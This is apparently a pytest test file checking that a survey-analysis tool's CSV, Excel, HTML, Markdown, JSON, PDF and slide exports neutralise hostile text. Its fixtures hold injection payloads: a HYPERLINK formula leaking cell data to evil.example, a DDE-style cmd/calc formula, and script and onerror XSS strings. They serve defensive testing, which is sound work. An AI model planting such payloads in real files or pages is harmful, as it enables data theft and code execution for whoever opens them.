"""Hostile persona text and outcome statements, across every spreadsheet, HTML and
Markdown export: no formula runs, no markup is injected, no table breaks."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pypdf import PdfReader

from odi.analysis.scoring import score
from odi.analysis.unmet_needs import UnmetNeeds, unmet_needs
from odi.exports import (
    card_html,
    card_markdown,
    card_pdf,
    landscape_html,
    persona_deck,
    scores_csv,
    scores_xlsx,
    unmet_needs_csv,
    unmet_needs_json,
    unmet_needs_markdown,
    unmet_needs_xlsx,
)
from odi.exports.safety import FORMULA_PREFIXES, md_text, neutralise_cell
from odi.personas import Persona
from odi.survey import Survey

DAY = date(2026, 5, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
TABLE = "| --- | injected | cell |"
HOSTILE_STATEMENTS = {
    "O1": HYPERLINK,
    "O2": SCRIPT + " Müller – 🚀",
    "O3": TABLE,
    "O4": "+SUM(1,2)",
    "O5": "-2+3",
    "O6": "@cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile(build) -> UnmetNeeds:
    survey = build(
        statements={**HOSTILE_STATEMENTS, "O7": "\tTab first", "O8": "\rCR first"},
        name='=cmd("study")',
    )
    p = Persona(
        id="evil",
        name=HYPERLINK,
        titles=(SCRIPT, "@SUM(A1)"),
        context=IMG,
        functional_job=TABLE,
        goals=("=1+1", "-1", "\tgoal"),
        challenges=("**bold** _it_ [link](http://x)", "# heading", "1. list"),
        messaging_hook="\r=CR",
        inferred={"context": "<b>note</b> =2+2"},
        segment={"role": ["VP Sales"]},
        pins=("O3", "O5"),
        hides={"O4": '=HYPERLINK("http://evil") ' + SCRIPT},
    )
    return unmet_needs(survey, p, bootstrap=100)


def _starts_dangerous(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES)


def test_hostile_text_reaches_the_exports(hostile: UnmetNeeds) -> None:
    # The fixture really exercises hostile statements in the unmet-needs list and hides.
    assert set(hostile.table["outcome_id"]) >= {"O1", "O2", "O3", "O5"}
    assert hostile.hidden["outcome_id"].tolist() == ["O4"]


def test_csv_cells_are_neutralised(hostile: UnmetNeeds) -> None:
    text = unmet_needs_csv(hostile, exported=DAY).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for key, value in row.items():
            if key in (
                "importance",
                "satisfaction",
                "opportunity",
                "gap",
                "opportunity_low",
                "opportunity_high",
                "importance_low",
                "importance_high",
                "satisfaction_low",
                "satisfaction_high",
                "threshold",
            ):
                float(value)  # numbers stay numbers
                continue
            assert not _starts_dangerous(value), (key, value)
    outcomes = {r["outcome_id"]: r["outcome"] for r in rows}
    assert outcomes["O1"] == "'" + HYPERLINK
    assert outcomes["O5"] == "'-2+3"
    assert rows[0]["persona"] == "'" + HYPERLINK
    assert rows[0]["study"] == '\'=cmd("study")'
    gaps = {r["outcome_id"]: float(r["gap"]) for r in rows}
    assert min(gaps.values()) < 0  # a negative number, left as a number


def test_xlsx_has_no_formulas(hostile: UnmetNeeds, survey: Survey) -> None:
    books = [
        unmet_needs_xlsx(hostile, exported=DAY),
        scores_xlsx(score(survey, bootstrap=0), study=HYPERLINK, scale=survey.scale, exported=DAY),
    ]
    for data in books:
        wb = load_workbook(io.BytesIO(data))
        strings = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        strings += 1
                        assert not _starts_dangerous(cell.value), (ws.title, cell.value)
        assert strings > 10
    sheet = pd.read_excel(io.BytesIO(books[0]), sheet_name=1)
    assert sheet.set_index("outcome_id").loc["O1", "outcome"] == "'" + HYPERLINK
    assert (sheet["gap"] < 0).any()  # numbers stay numeric cells


def test_scores_csv_is_neutralised(build) -> None:
    survey = build(statements=HOSTILE_STATEMENTS)
    text = scores_csv(
        score(survey, bootstrap=0), study="=evil()", scale=survey.scale, exported=DAY
    ).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", value):
                assert not _starts_dangerous(value), value


def test_html_escapes_all_user_text(hostile: UnmetNeeds) -> None:
    page = card_html(hostile, exported=DAY).decode("utf-8")
    assert "<script" not in page.lower()
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
    assert "&lt;b&gt;note&lt;/b&gt;" in page
    land = landscape_html(
        hostile.scores, study=SCRIPT, definition=IMG, n=1, method="m", exported=DAY
    ).decode("utf-8")
    head = land.split("<div", 1)[0]  # the part the workbench writes, before the figure
    assert SCRIPT not in head
    assert "&lt;script&gt;" in head
    assert SCRIPT not in land.split("</h1>")[0]


def _cells(line: str) -> list[str]:
    return re.split(r"(?<!\\)\|", line.strip())[1:-1]


@pytest.mark.parametrize("kind", ["list", "card"], ids=["unmet-md", "card-md"])
def test_markdown_tables_keep_their_shape(hostile: UnmetNeeds, kind: str) -> None:
    if kind == "list":
        text = unmet_needs_markdown(hostile, exported=DAY).decode("utf-8")
    else:
        text = card_markdown(hostile, exported=DAY).decode("utf-8")
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) >= 4
    widths = {len(_cells(line)) for line in table}
    assert len(widths) == 1, widths
    assert "<script>" not in text
    assert "\\<script\\>" in text
    assert "\\| --- \\|" in text
    for line in text.splitlines():
        assert not line.startswith(("# heading", "1. list", "<")), line


def test_markdown_escapes_inline_markup() -> None:
    assert (
        md_text("**bold** _it_ [link](http://x)")
        == "\\*\\*bold\\*\\* \\_it\\_ \\[link\\](http://x)"
    )
    assert md_text("line\nbreak") == "line break"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\x00=1", "'=1"),
        ("a=1", "a=1"),
        (-1.5, -1.5),
        ("Müller", "Müller"),
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "cr",
        "spaces-then-equals",
        "nul-then-equals",
        "inner-equals",
        "negative-number",
        "unicode",
    ],
)
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


def test_json_keeps_text_as_data(hostile: UnmetNeeds) -> None:
    data = json.loads(unmet_needs_json(hostile, exported=DAY))
    persona = data["personas"][0]
    assert persona["name"] == HYPERLINK  # JSON is data: text kept exactly
    outcomes = {r["outcome_id"]: r["outcome"] for r in persona["unmet_needs"]}
    assert outcomes["O2"] == SCRIPT + " Müller – 🚀"


def test_pdf_and_deck_survive_hostile_text(hostile: UnmetNeeds) -> None:
    text = PdfReader(io.BytesIO(card_pdf(hostile, exported=DAY))).pages[0].extract_text()
    assert "HYPERLINK" in text
    assert "Müller – 🚀" in text
    prs = Presentation(io.BytesIO(persona_deck(hostile, exported=DAY)))
    assert len(prs.slides) == 2
